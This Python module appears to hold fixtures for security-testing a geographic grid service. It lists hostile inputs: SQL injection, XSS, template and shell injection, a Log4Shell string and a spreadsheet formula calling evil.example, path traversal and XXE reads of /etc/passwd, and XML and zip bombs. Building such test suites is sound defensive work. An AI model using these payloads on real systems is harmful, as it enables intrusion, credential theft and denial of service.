"""What a stranger may send: texts, numbers, bodies and files that have broken other services."""

import io
import json
import zipfile
from typing import Any, Final

import numpy as np

MARKUP: Final = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEMPLATE: Final = "{{7*191}}${7*191}{% for c in ''.__class__.__mro__ %}x{% endfor %}#{7*191}"
TEMPLATE_RUN: Final = "1337"

TEXTS: Final = {
    "sql quote": "' OR '1'='1",
    "sql stacked": "1); DROP TABLE cases; --",
    "sql sleep": "1' AND (SELECT pg_sleep(30)) IS NULL --",
    "sql comment": "*/ UNION SELECT usename, passwd FROM pg_shadow /*",
    "like": "%_%\\%",
    "markup": MARKUP,
    "attribute": '" autofocus onfocus="alert(1)',
    "template": TEMPLATE,
    "format": "%s%s%s%n {0.__class__.__init__.__globals__}",
    "log": "${jndi:ldap://evil.example/a}",
    "shell": "; cat /etc/passwd | `id` $(id)",
    "formula": FORMULA,
    "traversal": "../../../../../../etc/passwd",
    "traversal encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "traversal windows": "..\\..\\..\\windows\\win.ini",
    "file": "file:///etc/passwd",
    "gdal": "/vsicurl/http://127.0.0.1:9/x.geojson",
    "nul": "a\x00b",
    "controls": "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "escape": "\x1b]0;owned\x07\x1b[2J",
    "bidi": "\u202egnp.exe\u2066",
    "noncharacter": "\uffff\ufdd0\U0010ffff",
    "emoji": "👩‍👩‍👧‍👦" * 20,
    "long": "字" * 4000,
    "json": '{"$gt": ""}',
    "prototype": "__proto__",
    "empty": "",
    "blank": " \t\u3000 ",
}
"""Each as the value of every parameter, and of every text in every body."""

NUMBERS: Final = (
    "NaN", "-nan", "inf", "-Infinity", "1e999", "-1e999", "1e308", "1e-320", "-0", "0x10", "1_000",
    "9" * 400, "-" + "9" * 30, str(2**31), str(2**63), "1e5", "٣", "1,5", "true", "null",
)  # fmt: skip

VALUES: Final = (
    None, True, [], {}, [[]], {"a": {"b": []}}, 0, -1, 2**31, 2**63, 2**64, 10**100, 1e308, -1e308,
    5e-324, "", "a\x00b", "\udc80", MARKUP, TEMPLATE, FORMULA, "字" * 70_000, ["x"] * 5000,
)  # fmt: skip
"""Each in the place of every value of a JSON body."""

NAMES: Final = (
    "../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc%252fpasswd", "....//....//etc/passwd", "..%5c..%5cwin.ini", "..;/..;/x",
    "/etc/passwd", "//evil.example/x", "%00", "a%00.css", "desk.css%00.html", "%c0%ae%c0%ae/x",
    "%ff%fe", ".", "..", "%2e", "con", "~root", "a" * 5000, "%", "%zz", "*", "?", "%23",
    "%0d%0aSet-Cookie:%20a=b", "{name}", "%7b%7b7*191%7d%7d", "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
"""Each as a part of a path, as it goes over the wire."""

LEAKS: Final = (
    "Traceback", "site-packages", ".py\"", "psycopg", "sqlalchemy", "asyncpg", "pydantic.dev",
    "SELECT ", "root:x:", "[fonts]", "/usr/lib", "BEGIN PRIVATE", "LIANXIN_DATABASE_URL",
)  # fmt: skip


def nested_json(depth: int) -> bytes:
    """Arrays within arrays."""
    return b"[" * depth + b"]" * depth


def nested_objects(depth: int) -> bytes:
    """Objects within objects, under a name that a report knows."""
    return b'{"place":' * depth + b"1" + b"}" * depth


def features(*geometries: Any, **properties: Any) -> bytes:
    """A GeoJSON file of grids."""
    return json.dumps({
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"grid_code": f"15062200300300{n}", "name": "甲", **properties},
                "geometry": geometry,
            }
            for n, geometry in enumerate(geometries, 1)
        ],
    }).encode()  # fmt: skip


def ring(points: int) -> dict[str, Any]:
    """A circle of very many corners."""
    angles = np.linspace(0, 2 * np.pi, points)
    xy = np.column_stack([111.205 + 0.004 * np.cos(angles), 39.805 + 0.004 * np.sin(angles)])
    xy[-1] = xy[0]
    return {"type": "Polygon", "coordinates": [xy.tolist()]}


def star(points: int) -> dict[str, Any]:
    """A line that crosses itself everywhere: each corner is almost opposite to the one before."""
    angles = np.arange(points) * np.pi * (1 - 1 / points)
    xy = np.column_stack([111.205 + 0.004 * np.cos(angles), 39.805 + 0.004 * np.sin(angles)])
    return {"type": "Polygon", "coordinates": [[*xy.tolist(), xy[0].tolist()]]}


def comb(teeth: int) -> dict[str, Any]:
    """A polygon with very many holes, all the same."""
    outer = [[111.2, 39.8], [111.21, 39.8], [111.21, 39.81], [111.2, 39.81], [111.2, 39.8]]
    hole = [[111.201, 39.801], [111.209, 39.801], [111.209, 39.809], [111.201, 39.801]]
    return {"type": "Polygon", "coordinates": [outer, *[hole] * teeth]}


def nested_collection(depth: int) -> bytes:
    """Geometry collections within geometry collections, written by hand: no encoder goes there."""
    opening = b'{"type":"GeometryCollection","geometries":['
    inner = opening * depth + b'{"type":"Point","coordinates":[111.2,39.8]}' + b"]}" * depth
    return (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"grid_code":'
        b'"150622003003001"},"geometry":' + inner + b"}]}"
    )


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip of these members."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


def zip_bomb(size: int) -> bytes:
    """A shapefile whose table unpacks into very many zeros."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("g.shp", b"\x00\x00\x27\x0a" + bytes(96))
        archive.writestr("g.shx", b"\x00\x00\x27\x0a" + bytes(96))
        with archive.open("g.dbf", "w", force_zip64=True) as member:
            block = bytes(1 << 20)
            for _ in range(size // len(block)):
                member.write(block)
    return packed.getvalue()


def lying_zip(size: int) -> bytes:
    """A zip whose directory says that a large member is small."""
    whole = bytearray(zip_bomb(size))
    at = whole.rfind(b"PK\x01\x02")  # the directory's entry of the last member
    whole[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(whole)


XML_BOMB: Final = (
    b'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b']><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&j;</name></Placemark></kml>'
)
XML_ENTITY: Final = (
    b'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&x;</name></Placemark></kml>'
)
VRT: Final = (
    b'<OGRVRTDataSource><OGRVRTLayer name="passwd"><SrcDataSource>CSV:/etc/passwd</SrcDataSource>'
    b"</OGRVRTLayer></OGRVRTDataSource>"
)
